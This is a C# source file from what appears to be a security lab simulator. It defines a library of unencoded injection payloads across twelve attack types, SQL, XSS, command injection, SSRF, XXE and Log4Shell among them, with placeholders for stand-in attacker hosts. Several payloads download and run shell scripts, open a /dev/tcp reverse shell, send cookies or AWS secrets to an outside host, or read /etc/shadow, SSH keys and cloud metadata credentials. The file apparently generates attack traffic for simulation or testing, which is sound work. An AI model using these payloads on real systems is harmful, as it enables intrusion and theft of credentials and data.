using System.Globalization;
using Vedette.Lab.Simulation;

namespace Vedette.Lab.Attacks;

/// <summary>Payloads by type of injection, unencoded. ¤n stands for a number, ¤b for one up to 254, ¤w for a word, ¤h for a host of the attacker's.</summary>
public static class PayloadLibrary
{
    private static readonly string[] Words = ["id", "name", "users", "data", "probe", "zq", "kx", "test", "acct", "tmp", "row", "val"];

    private static readonly string[] Hosts = ["cb.probe-host.example", "x7.oob.example", "203.0.113.77", "198.51.100.9:8443", "collect.evil.example"];

    private static readonly Dictionary<TruthType, string[]> ByType = new()
    {
        [TruthType.SqlInjection] =
        [
            "¤n' OR '¤n'='¤n", "¤n' OR 1=1-- ", "¤w' OR ''='", "¤n) OR (¤n=¤n", "¤n AND ¤n=¤n", "¤w' AND 'a¤n'='a¤n", "¤n' AND ¤n=¤n-- ¤w", "¤n\" OR \"x\"=\"x", "admin'-- ", "admin' #", "¤w') OR ('1'='1'/*",
            "¤n UNION SELECT NULL,NULL,NULL-- ", "¤n' UNION ALL SELECT NULL,version(),NULL-- ", "-¤n UNION SELECT table_name,2 FROM information_schema.tables-- ", "¤n' UNION SELECT username,password FROM users-- ",
            "¤n ORDER BY ¤n-- ", "¤n' ORDER BY 9#", "¤n; DROP TABLE ¤w-- ", "¤n'; UPDATE users SET role='admin' WHERE name='¤w'-- ", "¤n' AND SLEEP(5)-- ", "¤n AND (SELECT ¤n FROM (SELECT(SLEEP(5)))¤w)", "¤n'; WAITFOR DELAY '0:0:5'-- ",
            "¤n' AND pg_sleep(5)-- ", "¤n;SELECT PG_SLEEP(5)--", "¤n AND BENCHMARK(5000000,MD5('¤w'))", "¤n' AND EXTRACTVALUE(¤n,CONCAT(0x7e,(SELECT user())))-- ", "(SELECT CASE WHEN (¤n=¤n) THEN ¤n ELSE 1/0 END)",
            "¤n' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),¤n,1))>64-- ", "¤n' PROCEDURE ANALYSE()-- ", "¤n'||(SELECT '')||'", "¤n%' AND 1=0 UNION SELECT 1,@@version,3-- ", "'; EXEC xp_cmdshell('whoami')-- ", "¤n' RLIKE (SELECT 1)-- ", "¤n' INTO OUTFILE '/var/www/¤w.php'-- ",
        ],
        [TruthType.Xss] =
        [
            "<script>alert(¤n)</script>", "\"><script>alert(document.domain)</script>", "'><img src=x onerror=alert(¤n)>", "<svg/onload=confirm(¤n)>", "<body onpageshow=alert(¤n)>", "javascript:alert(¤n)", "<iframe srcdoc='<script>parent.alert(¤n)</script>'>",
            "\" onfocus=\"alert(¤n)\" autofocus=\"", "<details open ontoggle=prompt(¤n)>", "<a href=\"java&#9;script:alert(¤n)\">¤w</a>", "<scr<script>ipt>alert(¤n)</scr</script>ipt>", "';fetch('//¤h/?c='+document.cookie);//",
            "<input onmouseover=eval(atob('YWxlcnQoMSk=')) value=¤w>", "<math><mi xlink:href=\"data:text/html,<script>alert(¤n)</script>\">", "</title><script src=//¤h/¤w.js></script>", "{{constructor.constructor('alert(¤n)')()}}", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        ],
        [TruthType.PathTraversal] =
        [
            "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/shadow", "../../../../proc/self/environ", "/../../../../etc/hosts", "..;/..;/manager/html", "../../../../../../var/log/auth.log", "¤w/../../../../etc/passwd\0.png", "../../WEB-INF/web.xml",
            "..%2f..%2f..%2fetc%2fgroup", "..%c0%af..%c0%afetc%c0%afpasswd", "../../../home/¤w/.ssh/id_rsa", "..././..././etc/passwd",
        ],
        [TruthType.FileInclusion] =
        [
            "php://filter/convert.base64-encode/resource=index.php", "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+", "expect://id", "http://¤h/¤w.txt?", "https://¤h/shell.php%00", "ftp://¤h/¤w.php", "zip:///tmp/¤w.jpg#a.php", "phar://uploads/¤w.gif/x",
            "/var/log/apache2/access.log", "/proc/self/fd/¤n", "C:\\boot.ini", "\\\\¤h\\share\\¤w.php", "../../../../var/lib/php/sessions/sess_¤w¤n",
        ],
        [TruthType.CommandInjection] =
        [
            ";id", "|whoami", "&& cat /etc/passwd", "`id`", "$(id)", "; ping -c ¤n ¤h", "| nslookup ¤w.¤h", "& dir C:\\ &", "\nid\n", ";wget http://¤h/¤w.sh -O /tmp/¤w;sh /tmp/¤w", "$(curl -s http://¤h/¤w|sh)", "||sleep ¤n||", ";sleep${IFS}5;", "';/bin/bash -i >& /dev/tcp/¤h/4444 0>&1;'",
            "a;uname -a;#", "| powershell -nop -c \"iwr http://¤h/¤w\"", "%0a/usr/bin/id", "() { :;}; /bin/ping -c 3 ¤h", "x$(echo ¤w|base64)", "&net user ¤w /add&",
        ],
        [TruthType.TemplateInjection] =
        [
            "{{¤n*¤n}}", "${¤n*¤n}", "<%= ¤n*¤n %>", "#{¤n*¤n}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex('id')}", "{php}echo `id`;{/php}", "*{¤n*¤n}", "@(¤n*¤n)", "{{cycler.__init__.__globals__.os.popen('¤w')}}", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        ],
        [TruthType.LdapInjection] =
        [
            "*)(uid=*))(|(uid=*", "*)(&", "admin)(&)", "*()|&'", "¤w)(|(password=*)", "*)(objectClass=*", "admin)(!(&(1=0", "x*)(|(mail=*))", "*))%00", "(|(cn=*)(sn=*))", "¤w*)(userPassword=*)", "admin*)((|userpassword=*)",
        ],
        [TruthType.NosqlInjection] =
        [
            "{\"$ne\":null}", "{\"$gt\":\"\"}", "{\"$regex\":\"^a¤w\"}", "{\"$where\":\"sleep(5000)\"}", "';return true;var ¤w='", "' || '1'=='1", "{\"$nin\":[\"¤w\"]}", "{\"username\":{\"$in\":[\"admin\",\"root\"]},\"password\":{\"$ne\":1}}", "'; while(true){}; '", "{\"$or\":[{},{\"¤w\":\"¤w\"}]}",
            "this.password.match(/^¤w.*/)//", "db.users.find({})", "{\"$exists\":true}", "¤w'||this.role=='admin'||'",
        ],
        [TruthType.Xxe] =
        [
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", "<!DOCTYPE ¤w [<!ENTITY % p SYSTEM \"http://¤h/¤w.dtd\">%p;]><¤w/>", "<!DOCTYPE b [<!ENTITY a \"¤w\"><!ENTITY c \"&a;&a;&a;&a;&a;&a;\">]><b>&c;&c;&c;</b>",
            "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY e SYSTEM \"php://filter/read=convert.base64-encode/resource=index.php\">]><d>&e;</d>", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hosts\"/></x>",
            "<!DOCTYPE svg [<!ENTITY z SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><svg>&z;</svg>", "<?xml version=\"1.0\"?><!DOCTYPE q PUBLIC \"-//¤w//\" \"https://¤h/q\"><q/>", "<!DOCTYPE k [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % g \"<!ENTITY &#37; s SYSTEM 'http://¤h/?%f;'>\">%g;%s;]>",
        ],
        [TruthType.Ssrf] =
        [
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/", "http://127.0.0.1:¤n/", "http://localhost:6379/", "http://[::1]:¤n/admin", "http://0.0.0.0:9200/_cat/indices", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat",
            "http://2130706433/", "http://0x7f000001:8080/", "http://10.0.0.¤b/", "http://192.168.1.¤b:8080/manager", "http://¤w.¤h/", "http://127.1/", "file:///etc/passwd", "http://trusted.example@169.254.169.254/", "http://kubernetes.default.svc/api/v1/secrets",
        ],
        [TruthType.Log4shell] =
        [
            "${jndi:ldap://¤h/¤w}", "${jndi:rmi://¤h/¤w¤n}", "${${lower:j}ndi:${lower:l}dap://¤h/¤w}", "${${::-j}${::-n}${::-d}${::-i}:ldap://¤h/¤n}", "${jndi:dns://¤w.¤h}", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://¤h/x}", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.¤h/}", "${jndi:ldaps://¤h:636/¤w}",
            "${j${k8s:k5:-ND}i:ldap://¤h/¤w}", "${jndi:${lower:l}${lower:d}a${lower:p}://¤h/¤n}", "%24%7Bjndi:iiop://¤h/¤w%7D",
        ],
        [TruthType.CrlfInjection] =
        [
            "¤w\r\nSet-Cookie: sess=¤n", "¤w\r\nLocation: http://¤h/", "\r\n\r\n<html>¤w</html>", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "¤w\nX-Probe: ¤n", "\u560a\u560dX-Probe: ¤n", "¤w\r\n\tX-Forwarded-Host: ¤h", "%0d%0aSet-Cookie:¤w=¤n", "/%5cr%5cnX-¤w:1",
        ],
    };

    /// <summary>The types there are payloads for.</summary>
    public static IReadOnlyCollection<TruthType> Types => ByType.Keys;

    /// <summary>The payloads of a type as written here, with their placeholders.</summary>
    /// <exception cref="KeyNotFoundException">The type is no injection.</exception>
    public static IReadOnlyList<string> For(TruthType type) => ByType[type];

    /// <summary>A payload with its placeholders filled in.</summary>
    internal static string Draw(TruthType type, RandomSource random)
    {
        string payload = random.Pick(ByType[type]);
        if (!payload.Contains('¤', StringComparison.Ordinal)) return payload;
        // One number for all places: 4711=4711 must hold.
        string number = random.Between(1, random.Chance(0.5) ? 20 : 9999).ToString(CultureInfo.InvariantCulture);
        string octet = random.Between(1, 254).ToString(CultureInfo.InvariantCulture);
        return payload.Replace("¤n", number, StringComparison.Ordinal).Replace("¤b", octet, StringComparison.Ordinal).Replace("¤w", random.Pick(Words), StringComparison.Ordinal)
            .Replace("¤h", random.Pick(Hosts), StringComparison.Ordinal);
    }
}
